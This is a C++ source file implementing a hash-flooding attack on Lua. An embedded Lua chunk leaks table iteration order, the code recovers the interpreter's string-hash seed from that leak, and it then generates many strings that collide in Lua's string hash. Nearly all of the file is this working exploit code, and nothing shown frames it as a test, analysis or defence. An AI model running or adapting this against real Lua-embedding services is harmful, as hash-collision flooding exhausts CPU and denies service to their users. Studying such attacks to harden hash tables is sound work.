// SPDX-License-Identifier: GPL-2.0-only
#include "collisions.hpp"

#include <algorithm>
#include <array>
#include <random>
#include <utility>

namespace {

constexpr unsigned table_bits = 17;
constexpr std::uint32_t table_mask = (1U << table_bits) - 1;
constexpr unsigned probe_count = 48;

std::uint32_t hash_step(std::uint32_t hash, std::uint8_t byte)
{
	return hash ^ ((hash << 5) + (hash >> 2) + byte);
}

// Two blocks of three bytes that lead from one hash to one other.
struct Fork {
	std::array<std::uint32_t, 2> blocks;
	std::uint32_t hash;
};

std::uint32_t hash_block(std::uint32_t hash, std::uint32_t block, unsigned bytes)
{
	for (unsigned i = 0; i < bytes; i++)
		hash = hash_step(hash, static_cast<std::uint8_t>(block >> (8 * i)));
	return hash;
}

Fork find_fork(std::uint32_t hash)
{
	std::vector<std::pair<std::uint32_t, std::uint32_t>> all;
	for (std::uint32_t first = 0;; first += 1 << 17) {
		for (std::uint32_t block = first; block < first + (1 << 17); block++)
			all.emplace_back(hash_block(hash, block * 127 & 0xffffff, 3),
					 block * 127 & 0xffffff);
		std::sort(all.begin(), all.end());
		for (std::size_t i = 1; i < all.size(); i++)
			if (all[i].first == all[i - 1].first)
				return {{all[i - 1].second, all[i].second}, all[i].first};
	}
}

} // namespace

std::uint32_t short_hash(std::uint32_t seed, const std::string &text)
{
	auto hash = seed ^ static_cast<std::uint32_t>(text.size());
	for (auto i = text.size(); i > 0; i--)
		hash = hash_step(hash, static_cast<std::uint8_t>(text[i - 1]));
	return hash;
}

std::vector<std::string> probes()
{
	std::vector<std::string> all = {""};
	for (unsigned i = 1; i < probe_count; i++)
		all.push_back("probe" + std::to_string(i * i * 7919));
	return all;
}

// With 2^17 nodes, in which an integer has the node of its number: each second one is taken.
const char *const probing_chunk = R"(
local probes = {...}
local all = {}
for first = 1, 2 do
	local t = {}
	for i = first, (1 << 17) - 2, 2 do t[i + 0] = true end
	for _, probe in ipairs(probes) do t[probe] = true end
	local before, last = {}, 0
	for k in next, t do
		if math.type(k) then last = k else before[k] = last end
	end
	for _, probe in ipairs(probes) do all[#all + 1] = before[probe] or -1 end
end
return table.unpack(all)
)";

std::optional<std::uint32_t> find_seed(const std::vector<std::int64_t> &before)
{
	const auto texts = probes();
	if (before.size() != 2 * texts.size())
		return std::nullopt;
	for (unsigned table = 0; table < 2; table++) {
		// The hash of the empty string is the seed.
		const auto low =
			static_cast<std::uint32_t>(before[table * texts.size()] + 1) & table_mask;
		for (std::uint32_t high = 0; high < 1U << (32 - table_bits); high++) {
			const auto seed = high << table_bits | low;
			unsigned right = 0;
			for (std::size_t i = 1; i < texts.size(); i++) {
				const auto node = short_hash(seed, texts[i]) & table_mask;
				right += before[i] + 1 == node ||
					before[texts.size() + i] + 1 == node;
			}
			if (right > texts.size() / 2)
				return seed;
		}
	}
	return std::nullopt;
}

std::string collisions(std::uint32_t seed, unsigned count)
{
	constexpr unsigned fork_count = (collision_size - 4) / 3;
	std::array<Fork, fork_count> forks{};
	auto hash = seed ^ static_cast<std::uint32_t>(collision_size);
	for (auto &fork : forks) {
		fork = find_fork(hash);
		hash = fork.hash;
	}
	std::string all;
	const auto wanted = hash_block(hash, 0, 4) & table_mask;
	for (std::uint32_t end = 0; all.size() < count * collision_size; end++) {
		if ((hash_block(hash, end, 4) & table_mask) != wanted)
			continue;
		for (unsigned way = 0; way < 1U << fork_count; way++) {
			// Lua hashes from the last byte to the first.
			std::string text;
			for (unsigned i = 0; i < fork_count; i++)
				for (unsigned byte = 0; byte < 3; byte++)
					text += static_cast<char>(forks[i].blocks[way >> i & 1] >>
								  (8 * byte));
			for (unsigned byte = 0; byte < 4; byte++)
				text += static_cast<char>(end >> (8 * byte));
			std::reverse(text.begin(), text.end());
			all += text;
		}
	}
	all.resize(count * collision_size);
	return all;
}
